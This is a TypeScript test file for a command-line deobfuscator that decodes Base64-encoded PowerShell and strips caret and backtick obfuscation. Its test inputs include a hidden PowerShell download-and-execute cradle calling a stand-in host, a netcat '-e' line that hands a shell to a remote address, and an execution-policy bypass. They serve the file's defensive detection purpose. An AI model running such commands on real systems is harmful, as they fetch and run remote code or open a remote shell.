import { expect, test } from "vitest";
import { decodeCommand } from "./commandLine";

const wide = (text: string) =>
  btoa(
    Array.from(text, (char) => {
      const code = char.charCodeAt(0);
      return String.fromCharCode(code & 0xff, code >> 8);
    }).join(""),
  );

const script = "IEX (New-Object Net.WebClient).DownloadString('http://a.example/1')";

test.each(["-e", "-ec", "-en", "-enc", "-Enc", "-encod", "-EncodedCommand", "/enc", "\u2013enc"])(
  "%s of PowerShell is decoded",
  (flag) => {
    expect(decodeCommand(`powershell.exe -NoP -W Hidden ${flag} ${wide(script)}`)).toEqual([
      { name: "Base64, UTF-16", text: script },
    ]);
  },
);

test("the value may stand in quotes, and letters beyond ASCII are kept", () => {
  expect(decodeCommand(`pwsh -enc "${wide("Write-Host größe ✓")}"`)[0]?.text).toBe(
    "Write-Host größe ✓",
  );
});

test.each([
  ["another program's -e", `nc64.exe 10.0.2.11 3001 -e ${wide("cmd.exe /c whoami")}`],
  ["other parameters that begin with e", `powershell -ExecutionPolicy Bypass -File a.ps1`],
  ["what is no Base64", "powershell -enc Hello,World!"],
  ["what decodes to no text", `powershell -enc ${wide("\u0001\u0002\u0003\u0004")}`],
  ["a plain command line", String.raw`C:\Windows\System32\cmd.exe /c dir`],
  ["parts of variables", "cmd /c %COMSPEC:~0,1%%PATH:~3,2% %OS%"],
  ["carets that escape", "cmd /c echo a ^& b ^| c"],
  ["nothing", ""],
])("nothing is taken off: %s", (_, command) => {
  expect(decodeCommand(command)).toEqual([]);
});

test("carets go outside quotes, and what they hid is decoded in turn", () => {
  expect(decodeCommand(`cmd /c p^ow^ersh^ell -e^n^c ${wide("whoami")} "a^b"`)).toEqual([
    { name: "Carets", text: `cmd /c powershell -enc ${wide("whoami")} "a^b"` },
    { name: "Base64, UTF-16", text: "whoami" },
  ]);
});

test("backticks that change nothing go; those that stand for a character stay", () => {
  expect(decodeCommand("powershell I`E`X (G`c x) `n `t")).toEqual([
    { name: "Backticks", text: "powershell I`EX (Gc x) `n `t" },
  ]);
});

test("Base64 inside of a script is decoded by what it holds", () => {
  const inner = `powershell -enc ${wide(`[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${btoa("net user mira")}'))`)}`;
  expect(decodeCommand(inner).map(({ name }) => name)).toEqual(["Base64, UTF-16", "Base64, UTF-8"]);
  expect(decodeCommand(inner).at(-1)?.text).toBe("net user mira");
});

test("depth and size are bounded", () => {
  let text = "powershell whoami";
  for (let depth = 0; depth < 7; depth += 1) text = `powershell -enc ${wide(text)}`;
  expect(decodeCommand(text)).toHaveLength(5);
  expect(decodeCommand(`powershell -enc ${wide("a".repeat(400_000))}`)).toHaveLength(1);
});
